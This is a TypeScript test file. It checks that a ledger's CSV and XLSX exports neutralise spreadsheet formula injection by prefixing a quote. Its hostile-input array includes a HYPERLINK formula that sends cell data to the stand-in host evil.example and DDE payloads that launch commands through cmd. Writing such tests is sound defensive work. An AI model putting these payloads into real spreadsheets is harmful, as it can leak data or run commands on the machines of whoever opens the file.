import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import type { LedgerRow } from '@app/projections';
import { ledgerCsv, ledgerXlsx, neutraliseFormula } from './ledger.js';

const row = (over: Partial<LedgerRow>): LedgerRow => ({
  findingId: '00000000-0000-4000-8000-000000000001',
  title: '食堂进货台账缺失',
  fieldName: '校园食品安全',
  pointTitle: '食材采购查验',
  departmentName: '区教育局',
  responsiblePerson: '王建国',
  rectificationType: 'deadline',
  dueOn: '2024-12-31',
  measures: '建立台账',
  progressPercent: 50,
  progressNote: null,
  status: 'rectifying',
  overdue: false,
  closedOn: null,
  reopenedCount: 0,
  ...over,
});

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const rows = HOSTILE.map((text, i) =>
  row({ title: text, measures: text, responsiblePerson: i === 0 ? '=1+2' : '张三', progressNote: text }),
);

describe('ledger exports against formula injection', () => {
  it('prefixes a quote to text that starts like a formula, and only to that', () => {
    for (const text of HOSTILE) expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(neutraliseFormula('食堂 = 问题')).toBe('食堂 = 问题');
    expect(neutraliseFormula('a-b')).toBe('a-b');
    expect(neutraliseFormula(-3)).toBe(-3);
    expect(neutraliseFormula(null)).toBeNull();
  });

  it('writes an XLSX whose cells read back as quoted text, never formulas', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await ledgerXlsx(rows, '台账')) as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('整改台账')!;
    for (const [i, text] of HOSTILE.entries()) {
      const r = sheet.getRow(i + 2);
      for (const column of [2, 9]) {
        const cell = r.getCell(column);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // XML turns a CR into a LF on reading; the quote in front is what matters.
        expect(cell.value).toBe(`'${text}`.replaceAll('\r', '\n'));
      }
      expect(r.getCell(10).value).toBe(`50% ${text}`.replaceAll('\r', '\n')); // starts with a digit: left alone
    }
    expect(sheet.getRow(2).getCell(6).value).toBe("'=1+2");
    expect(sheet.getRow(3).getCell(6).value).toBe('张三');
    expect(sheet.getRow(2).getCell(1).value).toBe(1);
  });

  it('writes a CSV whose fields read back as quoted text', async () => {
    const csv = ledgerCsv(rows);
    const book = new ExcelJS.Workbook();
    const sheet = await book.csv.read(Readable.from([csv.subarray(3)]));
    for (const [i, text] of HOSTILE.entries()) {
      const r = sheet.getRow(i + 2);
      expect(r.getCell(2).value).toBe(`'${text}`);
      expect(r.getCell(9).value).toBe(`'${text}`);
    }
    expect(sheet.getRow(2).getCell(6).value).toBe("'=1+2");
    for (const line of csv.toString('utf8').split('\r\n').slice(1)) {
      for (const field of line.match(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g) ?? []) {
        expect(field.replace(/^,/, '').replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});
